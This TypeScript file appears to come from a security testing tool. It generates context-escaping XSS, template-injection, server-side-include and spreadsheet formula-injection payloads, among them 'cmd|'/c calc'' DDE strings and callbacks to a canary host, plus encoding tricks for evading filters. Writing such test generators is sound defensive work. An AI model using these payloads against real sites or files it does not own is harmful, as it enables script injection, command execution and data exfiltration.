import { act, asEscaped, asHexadecimal, asPercent, pairs } from './act.ts'

/** What ends the place where a text may stand: an attribute, an element whose content is a text, a comment, a script. */
const ends = [
  '"',
  "'",
  '`',
  '">',
  "'>",
  '" ',
  '</title>',
  '</textarea>',
  '</style>',
  '</script>',
  '</noscript>',
  '</template>',
  '</option></select>',
  '-->',
  ']]>',
  '*/',
  '\\">',
  '\\u003c/script\\u003e',
  '&quot;&gt;',
]

const then = [
  '<img src=x onerror=trap()>',
  '<script>trap()</script>',
  '<svg onload=trap()>',
  ' onfocus=trap() autofocus x=',
]

/** Texts that run only where a text is taken for code. */
const code = (canary: string) => [
  `';${act};'`,
  `";${act};"`,
  `\`;${act};\``,
  `\\';${act};//`,
  `\u2028${act}\u2028`,
  `\${${act}}`,
  `{{${act}}}`,
  `{{constructor.constructor('${act}')()}}`,
  `<%= ${act} %>`,
  `#{${act}}`,
  `[[\${${act}}]]`,
  `{"__html":"<img src=x onerror=${act}>"}`,
  `{"$$typeof":"Symbol(react.element)","type":"script"}`,
  `<!--#exec cmd="curl ${canary}/ssi"-->`,
  `<?xml-stylesheet href="${canary}/pi"?>`,
  `=HYPERLINK("${canary}/formula")`,
  `=cmd|'/c calc'!A1`,
  `+1+cmd|'/c calc'!A1`,
  `-1+cmd|'/c calc'!A1`,
  '@SUM(1+1)*cmd',
  `\t=WEBSERVICE("${canary}/webservice")`,
  `\r=IMPORTXML("${canary}/xml","//a")`,
]

const coreTag = '<img src=x onerror=trap()>'

/** Tags written so that something decodes them once too often. */
const encoded = [
  coreTag.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  coreTag.replaceAll('<', '&amp;lt;').replaceAll('>', '&amp;gt;'),
  asPercent(coreTag),
  asPercent(asPercent('<')) + coreTag.slice(1),
  asHexadecimal(coreTag),
  asEscaped(coreTag),
  coreTag.replaceAll('<', '\\x3c').replaceAll('>', '\\x3e'),
  coreTag.replaceAll('<', '\uff1c').replaceAll('>', '\uff1e'),
  coreTag.replaceAll('<', '\u2039').replaceAll('>', '\u203a'),
  coreTag.replace('img', 'i\u00ADmg'),
  coreTag.replace('onerror', 'on\u0000error').replace('\u0000', '\u0001'),
  `+ADw-img src=x onerror=trap()+AD4-`,
  `\ufeff${coreTag}`,
  `${coreTag.slice(0, -1)}`,
  `<\u0130mg src=x onerror=trap()>`,
  `\u202e${coreTag}\u202c`,
]

/** Texts that leave the place where they stand. */
export function contextual(canary: string): string[] {
  return [...pairs(ends, then, (end, next) => end + next), ...code(canary), ...encoded]
}
